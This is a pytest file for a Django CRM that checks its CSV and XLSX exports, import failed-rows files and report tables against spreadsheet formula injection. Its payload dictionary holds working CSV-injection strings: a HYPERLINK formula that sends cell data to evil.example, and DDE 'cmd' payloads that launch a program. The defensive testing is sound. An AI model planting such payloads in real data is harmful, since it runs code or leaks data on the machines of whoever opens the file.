"""Every CSV and XLSX export neutralises cells a spreadsheet would run as a formula.

The workspace is filled with names that are formulas (=, +, -, @, tab, carriage return first);
each export is downloaded and every cell of it, the header row included, must read as text to
a spreadsheet: no cell begins with a formula character, unless it is a plain negative number.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import time_machine
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from closeloop.analytics.results import report_kinds
from closeloop.core.export import FORMULA_PREFIXES, neutralise_cell, neutralise_row
from closeloop.leads.imports.services import import_configure, import_run, import_start
from closeloop.leads.models import Lead
from closeloop.leads.services.campaigns import campaign_create
from closeloop.leads.services.sources import source_create
from closeloop.people.models import Contact, Organization
from closeloop.pipeline.services import deal_mark_lost, deal_mark_won
from closeloop.pipeline.services.setup import lost_reason_create
from closeloop.proposals.services import LineIn, product_create, proposal_create, proposal_send
from closeloop.proposals.services.catalogue import template_save
from tests.factories import ContactEmailFactory, DealFactory

pytestmark = pytest.mark.django_db

# What an attacker types into a name, and what the spreadsheet would do with it.
PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
}
NEGATIVE_NUMBER = re.compile(r"-[\d,]+(\.\d+)?")


def _unsafe(cell: Any) -> bool:
    text = "" if cell is None else str(cell)
    return text.startswith(FORMULA_PREFIXES) and not NEGATIVE_NUMBER.fullmatch(text)


def _csv_cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _assert_safe(rows: list[list[Any]], where: str) -> None:
    unsafe = [cell for row in rows for cell in row if _unsafe(cell)]
    assert unsafe == [], f"{where}: cells a spreadsheet would run: {unsafe}"


@pytest.fixture
def poisoned(admin: Any, rep: Any) -> dict[str, Any]:
    """Every name an export shows begins with a formula: owners, organizations, contacts,
    deals, leads, sources, campaigns, lost reasons, competitors, products, templates."""
    rep.full_name = PAYLOADS["at"]
    rep.save(update_fields=["full_name"])
    source = source_create(actor=admin, name=PAYLOADS["at"])
    campaign = campaign_create(actor=admin, name=PAYLOADS["plus"])
    reason = lost_reason_create(actor=admin, name=PAYLOADS["equals"])
    product = product_create(
        actor=admin, name=PAYLOADS["minus"], unit_price=Decimal("100"), currency="EUR"
    )
    template = template_save(
        actor=admin, name=PAYLOADS["tab"], currency="EUR", lines=[LineIn(product=product)]
    )
    organization = Organization.objects.create(
        name=PAYLOADS["equals"], domain="evil.example", industry=PAYLOADS["minus"], owner=rep,
        notes=PAYLOADS["carriage"],
    )  # fmt: skip
    contact = Contact.objects.create(
        first_name=PAYLOADS["plus"], last_name=PAYLOADS["at"], job_title=PAYLOADS["tab"],
        organization=organization, owner=rep, notes=PAYLOADS["equals"],
    )  # fmt: skip
    ContactEmailFactory(contact=contact, email="buyer@evil.example")
    won = DealFactory(
        title=PAYLOADS["equals"], owner=rep, organization=organization, contact=contact,
        source=source, campaign=campaign,
    )  # fmt: skip
    proposal = proposal_create(actor=rep, deal=won, title=PAYLOADS["at"], template=template)
    proposal_send(actor=rep, proposal=proposal)
    deal_mark_won(actor=rep, deal=won)
    lost = DealFactory(title=PAYLOADS["minus"], owner=rep, organization=organization, source=source)
    deal_mark_lost(actor=rep, deal=lost, reason=reason, competitor=PAYLOADS["equals"])
    with time_machine.travel(timezone.now() - dt.timedelta(days=90)):  # rotting today: an insight
        DealFactory(title=PAYLOADS["plus"], owner=rep, organization=organization)
    for status in ("new", "qualified"):
        Lead.objects.create(
            first_name=PAYLOADS["equals"], last_name=PAYLOADS["minus"], company_name=PAYLOADS["at"],
            job_title=PAYLOADS["plus"], notes=PAYLOADS["carriage"], owner=rep, source=source,
            campaign=campaign, status=status, utm_source=PAYLOADS["tab"],
        )  # fmt: skip
    return {"organization": organization, "contact": contact, "deal": won}


LIST_EXPORTS = [
    ("pipeline:deal_list", {"format": "csv"}),
    ("people:organization_list", {"format": "csv"}),
    ("people:contact_list", {"format": "csv"}),
    ("leads:lead_list", {"format": "csv"}),
]


@pytest.mark.parametrize(("name", "query"), LIST_EXPORTS, ids=[n for n, _ in LIST_EXPORTS])
def test_list_exports_neutralise_every_cell(name, query, poisoned, admin_client_):
    rows = _csv_cells(admin_client_.get(reverse(name), query))
    assert len(rows) > 1, "the export has the poisoned records"
    _assert_safe(rows, name)
    texts = {cell for row in rows for cell in row}
    assert "'" + PAYLOADS["equals"] in texts or "'" + PAYLOADS["plus"] in texts, texts


def test_the_leads_xlsx_holds_no_formula(poisoned, rep, admin_client_):
    # control characters come out before the check: "\x01=1+1" would be "=1+1" once they are
    Lead.objects.create(first_name="\x01=1+1", last_name="\x07@SUM(1)", owner=rep)
    response = admin_client_.get(reverse("leads:lead_list"), {"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book["Leads"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    _assert_safe(rows, "leads.xlsx")
    assert "'=1+1" in {cell for row in rows for cell in row}


def _export_links(path: str, page: str) -> list[str]:
    """The CSV links of a report page (one per table), as paths."""
    hrefs = {html.unescape(href) for href in re.findall(r'href="([^"]*export=[^"]*)"', page)}
    return sorted(href if href.startswith("/") else path + href for href in hrefs)


REPORT_PAGES = [
    reverse("leads:reports"),
    reverse("proposals:reports"),
    *(reverse("analytics:report", args=[kind.key]) for kind in report_kinds()),
]


@pytest.mark.parametrize("page", REPORT_PAGES)
def test_every_report_table_export_neutralises_every_cell(page, poisoned, admin_client_):
    response = admin_client_.get(page, {"period": "all"})
    assert response.status_code == 200
    links = _export_links(page, response.content.decode())
    assert links, f"{page} offers no CSV export"
    for url in links:
        _assert_safe(_csv_cells(admin_client_.get(url)), url)


def test_a_report_shows_the_names_it_neutralises(poisoned, admin_client_):
    """The lost-reasons table names the poisoned reason: the export has it, quoted."""
    path = reverse("analytics:report", args=["lost"])
    page = admin_client_.get(path, {"period": "all"}).content.decode()
    cells = {
        cell
        for url in _export_links(path, page)
        for row in _csv_cells(admin_client_.get(url))
        for cell in row
    }
    assert "'" + PAYLOADS["equals"] in cells


EVIL_HEADER = "=1+1"  # the file's own header row comes back in the failed rows
FAILED_ROWS = f"{EVIL_HEADER},Email\n{PAYLOADS['at'].replace(',', ';')},not-an-email\n"


def test_the_failed_rows_download_neutralises_the_files_own_cells(admin, admin_client_):
    batch = import_start(
        actor=admin, kind="leads", stream=io.BytesIO(FAILED_ROWS.encode()), file_name="evil.csv"
    )
    batch = import_configure(
        actor=admin, batch=batch, mapping={EVIL_HEADER: "last_name", "Email": "email"}
    )
    batch = import_run(actor=admin, batch=batch)
    assert batch.failed_count == 1
    rows = _csv_cells(admin_client_.get(reverse("imports:failed_csv", args=[batch.pk])))
    _assert_safe(rows, "failed rows")
    assert rows[0][0] == "'" + EVIL_HEADER and rows[1][0].startswith("'@SUM")


def test_the_import_commands_failed_rows_file_is_neutralised(tmp_path, admin):
    source = tmp_path / "evil.csv"
    source.write_text(FAILED_ROWS.replace(EVIL_HEADER, "Name"), encoding="utf-8")
    mapping = tmp_path / "mapping.json"
    mapping.write_text('{"columns": {"Name": "last_name", "Email": "email"}}')
    failed = tmp_path / "failed.csv"
    call_command("import", "leads", str(source), "--mapping", str(mapping),
                 "--user", admin.email, "--failed-csv", str(failed))  # fmt: skip
    rows = list(csv.reader(failed.open(encoding="utf-8-sig")))
    _assert_safe(rows, "failed.csv")
    assert rows[1][0].startswith("'@SUM")


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), "\x00=1+1", "-", "+", "@", "="])
def test_neutralise_cell_quotes_what_a_spreadsheet_would_run(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [Decimal("-12.50"), -3, -2.5, "-12", "-12.50", "-1,234.50", "12", "Anna", "", None, "'=1",
     " =1", "a=b"],
)  # fmt: skip
def test_numbers_and_plain_text_stay_as_they_are(value):
    """Real negative numbers stay numbers, and text that runs nothing is left alone."""
    assert neutralise_cell(value) == value


def test_neutralise_row_takes_any_cells():
    assert neutralise_row(iter(["=1", -1, "ok"])) == ["'=1", -1, "ok"]
